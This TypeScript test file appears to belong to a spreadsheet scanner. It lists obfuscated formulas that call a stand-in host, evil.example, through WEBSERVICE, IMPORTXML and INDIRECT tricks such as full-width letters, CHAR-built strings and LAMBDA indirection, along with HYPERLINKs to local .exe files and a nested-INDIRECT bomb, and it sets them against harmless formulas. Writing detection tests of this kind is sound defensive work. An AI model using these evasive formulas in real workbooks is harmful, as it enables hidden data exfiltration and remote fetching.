import type { Harmless, Variant } from './checked.ts'
import { packageFile } from './office-package.ts'
import { formulaPlaces, workbook } from './sheet-parts.ts'

const safe = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
const inCell = (formula: string) => packageFile(formulaPlaces['a cell']?.(safe(formula)) ?? workbook({}))
const inName = (formula: string) => packageFile(formulaPlaces['a name']?.(safe(formula)) ?? workbook({}))

/** Formulas in which a function that reaches out, or what it reaches, is not written as a call of its name. */
const cells: [formula: string, reason: string][] = [
	['MAP(A1:A3,WEBSERVICE)', 'fetches'],
	['_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)', 'fetches'],
	['_xlfn.BYROW(A1:B3,_xleta.IMAGE)', 'fetches'],
	['_xlfn.SCAN("",A1:A3,_xleta.RTD)', 'fetches'],
	['_xlfn.LET(_xlpm.f,_xlfn.WEBSERVICE,_xlpm.f(A1))', 'fetches'],
	['LET(f,WEBSERVICE,f("https://evil.example/"))', 'fetches'],
	['IF(TRUE,WEBSERVICE)("https://evil.example/")', 'fetches'],
	['CHOOSE(1,_xlfn.STOCKHISTORY)(A1)', 'fetches'],
	['(WEBSERVICE)("https://evil.example/")', 'fetches'],
	['_xlfn.REDUCE("",A1:A3,_xlfn.LAMBDA(_xlpm.a,_xlpm.b,WEBSERVICE (_xlpm.b)))', 'fetches'],
	['\uff37\uff25\uff22\uff33\uff25\uff32\uff36\uff29\uff23\uff25("https://evil.example/")', 'fetches'],
	['IMPORTXML("https://evil.example/","//a")', 'fetches'],
	['IMPORTDATA("https://evil.example/")', 'fetches'],
	['IMPORTRANGE("https://evil.example/","a")', 'fetches'],
	['MAP(A1:A3,HYPERLINK)', 'badLink'],
	['INDIRECT("\'fi"&"le:///c:/a.xlsx\'#$Sheet1.A1")', 'fetches'],
	['INDIRECT(CHAR(39)&"file"&CHAR(58)&"///c:/a.xlsx"&CHAR(39)&CHAR(35)&"$Sheet1.A1")', 'fetches'],
	['INDIRECT(CHAR(90+1)&"a.xlsx]Sheet1!A1")', 'fetches'],
	['INDIRECT(CONCATENATE("[a.xls","x]Sheet1!A1"))', 'fetches'],
	['INDIRECT(UNICHAR(HEX2DEC("5B"))&"a.xlsx]Sheet1!A1")', 'fetches'],
	['INDIRECT(IF(1=1,"\\\\evil.example\\a"))', 'fetches'],
	['INDIRECT(CHAR(91)&"a.xlsx"&UNICHAR("93")&"Sheet1"&CHAR(33.2)&"A1")', 'fetches'],
	['INDIRECT(CHAR(LEN("000000000000000000000000000000000000065"))&A1)', 'fetches'],
	['INDIRECT("A"&INDIRECT("[a.xlsx]"&A1)', 'fetches'],
	['INDIRECT(SUBSTITUTE("\'https:+evil.example/a.xlsx\'#$a.A1","+","//"))', 'fetches'],
	[`${'INDIRECT('.repeat(9)}A1${')'.repeat(9)}`, 'bomb'],
	['_xlfn.LAMBDA(_xlpm.a,_xlpm.a(A1))(_xlfn._xleta.TRANSLATE)', 'fetches'],
	['T(GET.CELL(1,A1))', 'fetches'],
	['[a.xlsx]Sheet1!A1', 'fetches'],
	['file://evil.example/a.xlsx#Sheet1.A1', 'fetches'],
	['"a"&WEBSERVICE\uff08A1\uff09', 'fetches'],
	['SUM(A1)&"', 'unreadable'],
	["A1&'Sheet1!A1", 'unreadable'],
	['Table1[Cost', 'unreadable'],
	['HYPERLINK(" "&"file:///c:/a.exe")', 'badLink'],
	['HYPERLINK("https://un.org/")&HYPERLINK(CHAR(102)&"ile:///c:/a.exe")', 'badLink'],
]
const names: [formula: string, reason: string][] = [
	['WEBSERVICE', 'fetches'],
	['_xlfn.IMAGE', 'fetches'],
	['_xlfn.LAMBDA(_xlpm.a,_xlfn.WEBSERVICE(_xlpm.a))', 'fetches'],
	['IF(TRUE,WEBSERVICE,SUM)', 'fetches'],
	['HYPERLINK', 'badLink'],
]

/** Workbooks whose formulas reach out by a name that is passed on or an argument that is put together. */
export const hiddenFormulas: Variant[] = [
	...cells.map(([formula, reason]): Variant => [`${formula} in a cell`, inCell(formula), reason]),
	...names.map(([formula, reason]): Variant => [`a name for ${formula}`, inName(formula), reason]),
]

const honest = [
	'_xlfn.LET(_xlpm.image,A1,_xlpm.image&"x")',
	'_xlfn.MAP(A1:A3,_xleta.SUM)',
	'_xlfn.BYROW(A1:B3,_xlfn.LAMBDA(_xlpm.row,SUM(_xlpm.row)))',
	'SUM(Files)+Request',
	"Image!A1+'Open'!B2",
	'SUM(Request[Cost])',
	'INDIRECT("Table1["&A1&"]")',
	'INDIRECT("Table1[Cost]")',
	'INDIRECT("\'"&A1&"\'!B"&ROW())',
	'INDIRECT(CHAR(64+COLUMN())&"1")',
	'INDIRECT(ADDRESS(1,2))',
	'INDIRECT(SUBSTITUTE(SUBSTITUTE(A1," ","_"),"/","_"))',
	'INDIRECT("Costs["&A1&"]")+INDIRECT("Sheet1!A"&ROW())',
	'INDIRECT("Table1[Cost]")*INDIRECT(A1&"!B2",TRUE)',
	"SUM(Table1[Cost|EUR])+SUM(Table1['[net']])+Table1[State''s]",
	'[0]!Costs',
	'#REF!+Sheet1!#REF!',
	'_xlfn.ANCHORARRAY(A1)+SUM(_xlfn.SINGLE(A:A))',
	'HYPERLINK("#\'"&A1&"\'!A1",A1)',
	'CHAR(10)&"https://un.org/"',
	'IF(A1="WEBSERVICE(","yes","no")',
]

/** Workbooks whose formulas only look like these. */
export const plainFormulas: Harmless[] = honest.map(
	(formula): Harmless => [`${formula} in a cell`, inCell(formula)],
)
